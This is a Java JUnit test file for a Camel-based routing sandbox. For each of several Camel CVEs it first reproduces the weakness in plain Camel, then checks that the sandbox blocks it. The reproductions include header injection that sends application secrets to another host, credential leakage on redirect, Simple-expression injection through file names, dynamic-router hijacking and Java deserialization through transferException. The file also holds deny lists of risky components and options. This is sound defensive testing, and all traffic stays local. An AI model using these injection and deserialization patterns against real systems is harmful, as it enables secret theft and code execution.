package dev.routewright.cell;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.absent;
import static com.github.tomakehurst.wiremock.client.WireMock.any;
import static com.github.tomakehurst.wiremock.client.WireMock.anyRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.getRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowable;
import static org.awaitility.Awaitility.await;

import com.github.tomakehurst.wiremock.WireMockServer;
import com.github.tomakehurst.wiremock.core.WireMockConfiguration;
import dev.routewright.route.Grant;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.apache.camel.CamelContext;
import org.apache.camel.builder.RouteBuilder;
import org.apache.camel.impl.DefaultCamelContext;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Weaknesses published for the Camel release we run on. Each group shows the weakness in a plain context of Camel where
 * that can be done here, and that a cell does not have it although no inspection has seen its route.
 */
class CamelWeaknessesTest {
    private final WireMockServer partner =
            new WireMockServer(WireMockConfiguration.options().dynamicPort());
    private final WireMockServer elsewhere =
            new WireMockServer(WireMockConfiguration.options().dynamicPort());

    @TempDir
    Path files;

    Runtime runtime;

    @BeforeEach
    void start() {
        partner.start();
        elsewhere.start();
        partner.stubFor(any(anyUrl()).willReturn(okJson("{\"a\":1}")));
        elsewhere.stubFor(any(anyUrl()).willReturn(okJson("{\"a\":2}")));
        Canary.woken = false;
        runtime = Runtime.unread(
                files,
                settings -> settings,
                Runtime.withHttp("127.0.0.0/8"),
                new Names().lead("partner.example", "127.0.0.1").lead("other.example", "127.0.0.1"));
    }

    @AfterEach
    void stop() {
        runtime.close();
        partner.stop();
        elsewhere.stop();
    }

    /** Placeholders in the CamelHttpUri header are resolved, which sends secrets of the application away. */
    @Nested
    class Cve2026_78164 {
        private String stolen() {
            return "http://127.0.0.1:" + elsewhere.port() + "/?got={{secret}}";
        }

        @Test
        void plainCamelSendsTheSecret() throws Exception {
            try (var camel = camel(route -> route.from("direct:x").to("http://127.0.0.1:" + partner.port()))) {
                camel.getPropertiesComponent().addInitialProperty("secret", "s3cr3t");
                camel.createProducerTemplate().requestBodyAndHeader("direct:x", null, "CamelHttpUri", stolen());
            }

            elsewhere.verify(getRequestedFor(urlEqualTo("/?got=s3cr3t")));
        }

        @ParameterizedTest
        @ValueSource(strings = {"CamelHttpUri", "camelhttpuri", "CamelRestHttpUri", "CamelHttpPath", "CamelHttpQuery"})
        void noCallerSteersACell(String header) throws Exception {
            load(to("/fixed"));

            runtime.post("/x", "{}", header, stolen());
            runtime.post("/x?" + header + "=" + java.net.URLEncoder.encode(stolen(), "UTF-8"), "{}");

            assertThat(elsewhere.getAllServeEvents()).isEmpty();
            partner.verify(2, anyRequestedFor(urlEqualTo("/fixed")));
        }

        @Test
        void noRouteSteersItsOwnCalls() throws Exception {
            load("setHeader: {name: CamelHttpUri, simple: '${body}'}", to("/fixed"));

            runtime.post("/x", stolen(), "Content-Type", "text/plain");

            assertThat(elsewhere.getAllServeEvents()).isEmpty();
            partner.verify(1, anyRequestedFor(urlEqualTo("/fixed")));
        }
    }

    /** Credentials go along when a reply redirects to another host. */
    @Nested
    class Cve2026_85251 {
        @BeforeEach
        void redirect() {
            partner.stubFor(any(anyUrl())
                    .willReturn(aResponse()
                            .withStatus(302)
                            .withHeader("Location", "http://localhost:" + elsewhere.port() + "/")));
        }

        @Test
        void plainCamelTakesThemAlong() throws Exception {
            elsewhere.stubFor(any(anyUrl())
                    .willReturn(aResponse().withStatus(401).withHeader("WWW-Authenticate", "Basic realm=x")));
            try (var camel = camel(route -> route.from("direct:x")
                    .to("http://127.0.0.1:" + partner.port()
                            + "/?followRedirects=true&authMethod=Basic&authUsername=u&authPassword=p"))) {
                catchThrowable(() -> camel.createProducerTemplate().requestBody("direct:x", (Object) null));
            }

            elsewhere.verify(getRequestedFor(anyUrl()).withHeader("Authorization", equalTo("Basic dTpw")));
        }

        @Test
        void aCellFollowsNoRedirectAndHasNoCredentials() throws Exception {
            load("setHeader: {name: Authorization, constant: 'Basic dTpw'}", to("/"));

            var answer = runtime.post("/x", "{}", "Authorization", "Bearer caller");

            assertThat(answer.statusCode()).isEqualTo(500);
            assertThat(elsewhere.getAllServeEvents()).isEmpty();
            partner.verify(1, anyRequestedFor(anyUrl()).withHeader("Authorization", absent()));
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "followRedirects=true",
                    "authUsername=u&authPassword=p",
                    "authMethod=Basic",
                    "authBearerToken=t"
                })
        void theOptionsAreRefused(String options) {
            assertThatThrownBy(() -> load(to("/?" + options))).hasRootCauseInstanceOf(OutsideGrant.class);
        }
    }

    /**
     * Arguments a model chooses for a tool become headers. No tool is called from a cell today; what holds is the rule
     * for everything that comes in: no name a stranger chose steers.
     */
    @Nested
    class Cve2026_49042 {
        @Test
        void inPlainCamelAnArgumentSteers() throws Exception {
            try (var camel = camel(route -> route.from("direct:tool").to("file:" + files.resolve("out")))) {
                var arguments = Map.<String, Object>of("CamelFileName", "chosen.txt");
                camel.createProducerTemplate().sendBodyAndHeaders("direct:tool", "x", arguments);
            }

            assertThat(files.resolve("out/chosen.txt")).exists();
        }

        @ParameterizedTest
        @ValueSource(strings = {"CamelFileName", "camelfilename", "CamelOverruleFileName", "Camel%46ileName"})
        void inACellItDoesNot(String argument) throws Exception {
            load("to: {uri: 'file:out'}");

            assertThat(runtime.post("/x?" + argument + "=chosen.txt", "{}").statusCode())
                    .isEqualTo(200);
            runtime.post("/x", "{}", argument.replace("%46", "F"), "chosen.txt");

            assertThat(names("out")).hasSize(2).doesNotContain("chosen.txt");
        }
    }

    /** What a message says decides where the dynamic router sends it, and which predicates it knows. */
    @Nested
    class Cve2026_83531 {
        @Test
        void inPlainCamelAHeaderChoosesTheTarget() throws Exception {
            try (var camel = camel(route -> route.from("direct:x").dynamicRouter(route.header("next")))) {
                var stop = catchThrowable(() -> camel.createProducerTemplate()
                        .sendBodyAndHeader(
                                "direct:x", "x", "next", "file:" + files.resolve("out") + "?fileExist=Fail"));
                assertThat(stop).isNotNull();
            }

            assertThat(names("out")).hasSize(1);
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "dynamicRouter: {header: next}",
                    "routingSlip: {header: next}",
                    "recipientList: {header: next}",
                    "toD: {uri: '${header.next}'}",
                })
        void inACellTheGrantDoes(String step) throws Exception {
            load(step);

            var answer = runtime.post("/x", "{}", "next", "file:elsewhere");

            assertThat(answer.statusCode()).isEqualTo(500);
            assertThat(files.resolve("elsewhere")).doesNotExist();
            assertThat(runtime.kept.get(0).cause()).startsWith("The grant does not allow the folder elsewhere.");
        }

        @ParameterizedTest
        @ValueSource(strings = {"dynamic-router:x", "dynamic-router-control:subscribe"})
        void theComponentCannotBeLoaded(String uri) {
            refusesEvenIfGranted(uri);
        }
    }

    /** The key of an object, or the name of a file, is evaluated as Simple where it is written to. */
    @Nested
    class Cve2026_95664 {
        private static final String HOSTILE = "${body}.txt";

        /** The file component of this release does not have the weakness; the cell does not rely on it. */
        @Test
        void plainCamelKeepsTheNameOfAFile() throws Exception {
            Files.createDirectories(files.resolve("in"));
            Files.writeString(files.resolve("in").resolve(HOSTILE), "evaluated");
            try (var camel = camel(route -> route.from("file:" + files.resolve("in") + "?initialDelay=0")
                    .to("file:" + files.resolve("out")))) {
                await().until(() -> !names("out").isEmpty());
            }

            assertThat(names("out")).containsExactly(HOSTILE);
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    HOSTILE,
                    "$simple{body}.txt",
                    "${bean:x}.txt",
                    "${sys.user.home}.txt",
                    "$${body}.txt",
                    "${body.txt",
                })
        void aCellDoesNot(String name) throws Exception {
            Files.createDirectories(files.resolve("in"));
            Files.writeString(files.resolve("in").resolve(name), "evaluated");
            runtime.cells.switchTo(Runtime.version("x", 1, """
                    - route:
                        id: x
                        from:
                          uri: file:in
                          parameters: {delay: 100, initialDelay: 0}
                          steps:
                            - to: {uri: 'file:out'}
                    """, grant()));

            await().until(() -> Files.exists(files.resolve("in/.done").resolve(name)));

            assertThat(runtime.kept).isEmpty();
            assertThat(names("out")).hasSize(1).doesNotContain("evaluated.txt");
            assertThat(files.resolve("out").resolve(names("out").get(0))).hasContent("evaluated");
        }

        @ParameterizedTest
        @ValueSource(strings = {"aws2-s3:bucket", "aws-s3:bucket", "minio:bucket", "azure-storage-blob:a/b"})
        void theComponentCannotBeLoaded(String uri) {
            refusesEvenIfGranted(uri);
        }
    }

    /** Bytes from outside become objects, and with them code runs. */
    @Nested
    class Cve2026_40860 {
        @ParameterizedTest
        @ValueSource(
                strings = {
                    "jms:x",
                    "activemq:x",
                    "activemq6:x",
                    "amqp:x",
                    "sjms:x",
                    "sjms2:x",
                    "jgroups:x",
                    "mina:tcp:x:1"
                })
        void theComponentCannotBeLoaded(String uri) {
            refusesEvenIfGranted(uri);
        }

        @Test
        void plainCamelWakesAnObjectInAReply() throws Exception {
            partner.stubFor(any(anyUrl()).willReturn(serialized(500)));
            try (var camel = camel(route ->
                    route.from("direct:x").to("http://127.0.0.1:" + partner.port() + "?transferException=true"))) {
                catchThrowable(() -> camel.createProducerTemplate().requestBody("direct:x", (Object) null));
            }

            assertThat(Canary.woken).isTrue();
        }

        @ParameterizedTest
        @ValueSource(ints = {200, 500})
        void aCellDoesNot(int status) throws Exception {
            partner.stubFor(any(anyUrl()).willReturn(serialized(status)));
            load(to("/"));

            runtime.post("/x", "{}");

            partner.verify(1, anyRequestedFor(anyUrl()));
            assertThat(Canary.woken).isFalse();
        }

        @Test
        void norOneInARequest() throws Exception {
            load("setVariable: {name: text, simple: '${body}'}", to("/"));

            var request = java.net.http.HttpRequest.newBuilder(
                            runtime.cells.ingressUri().resolve("/x"))
                    .header("Content-Type", "application/x-java-serialized-object")
                    .POST(java.net.http.HttpRequest.BodyPublishers.ofByteArray(bytes()))
                    .build();
            runtime.http.send(request, java.net.http.HttpResponse.BodyHandlers.discarding());

            assertThat(Canary.woken).isFalse();
        }

        @ParameterizedTest
        @ValueSource(strings = {"transferException=true", "transferexception=true", "transfer-exception=true"})
        void theOptionIsRefused(String option) {
            assertThatThrownBy(() -> load(to("/?" + option))).hasRootCauseInstanceOf(OutsideGrant.class);
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "convertBodyTo: {type: java.io.ObjectInput}",
                    "convertBodyTo: {type: java.io.ObjectInputStream}",
                    "unmarshal: {custom: {ref: x}}",
                    "unmarshal: {json: {unmarshalType: java.lang.ProcessBuilder}}",
                })
        void nothingElseMakesObjectsOfBytes(String step) {
            assertThatThrownBy(() -> load(step)).isInstanceOf(CellRuntime.CellFailed.class);
        }

        private com.github.tomakehurst.wiremock.client.ResponseDefinitionBuilder serialized(int status) {
            return aResponse()
                    .withStatus(status)
                    .withHeader("Content-Type", "application/x-java-serialized-object")
                    .withBody(bytes());
        }

        private byte[] bytes() {
            var bytes = new ByteArrayOutputStream();
            try (var out = new ObjectOutputStream(bytes)) {
                out.writeObject(new Canary());
            } catch (IOException impossible) {
                throw new IllegalStateException(impossible);
            }
            return bytes.toByteArray();
        }
    }

    /** Tells when it is made of bytes. */
    static final class Canary extends Exception {
        static volatile boolean woken;

        private void readObject(ObjectInputStream in) throws IOException, ClassNotFoundException {
            in.defaultReadObject();
            woken = true;
        }
    }

    private interface Written {
        void in(RouteBuilder route);
    }

    private static CamelContext camel(Written written) throws Exception {
        var camel = new DefaultCamelContext();
        camel.addRoutes(new RouteBuilder() {
            @Override
            public void configure() {
                errorHandler(noErrorHandler());
                written.in(this);
            }
        });
        camel.start();
        return camel;
    }

    private List<String> names(String folder) throws IOException {
        var names = new ArrayList<String>();
        if (!Files.isDirectory(files.resolve(folder))) return names;
        try (var found = Files.list(files.resolve(folder))) {
            found.filter(Files::isRegularFile)
                    .forEach(file -> names.add(file.getFileName().toString()));
        }
        return names;
    }

    private String to(String pathAndQuery) {
        return "to: {uri: 'http://partner.example:%d%s'}".formatted(partner.port(), pathAndQuery);
    }

    private void refusesEvenIfGranted(String uri) {
        var scheme = uri.substring(0, uri.indexOf(':'));
        assertThatThrownBy(() -> load("to: {uri: '%s'}".formatted(uri)))
                .isInstanceOf(CellRuntime.CellFailed.class)
                .hasMessageContaining("The grant does not allow component %s.".formatted(scheme));
        assertThatThrownBy(() -> load(grant(scheme), "to: {uri: '%s'}".formatted(uri)))
                .isInstanceOf(CellRuntime.CellFailed.class);
        assertThat(runtime.cells.figures()).isEmpty();
    }

    private void load(String... steps) throws CellRuntime.CellFailed {
        load(grant(), steps);
    }

    private void load(Grant grant, String... steps) throws CellRuntime.CellFailed {
        var all = Stream.of(steps).map(step -> "        - " + step + "\n").reduce("", String::concat);
        runtime.cells.switchTo(Runtime.version("x", 1, """
                - route:
                    id: x
                    from:
                      uri: platform-http:/x
                      parameters: {httpMethodRestrict: POST}
                      steps:
                %s""".formatted(all), grant));
    }

    private Grant grant(String... more) {
        var components = new TreeSet<>(Set.of("platform-http", "http", "https", "file"));
        components.addAll(List.of(more));
        return new Grant(
                List.of(new Grant.Entry("http", "POST", "/x"), new Grant.Entry("file", "", "in")),
                new TreeSet<>(),
                new TreeSet<>(),
                new TreeSet<>(Set.of("http://partner.example:" + partner.port())),
                new TreeSet<>(),
                new TreeSet<>(),
                new TreeSet<>(Set.of("in")),
                new TreeSet<>(Set.of("out")),
                components,
                new TreeSet<>(Set.of("jq", "simple")),
                new TreeSet<>());
    }
}
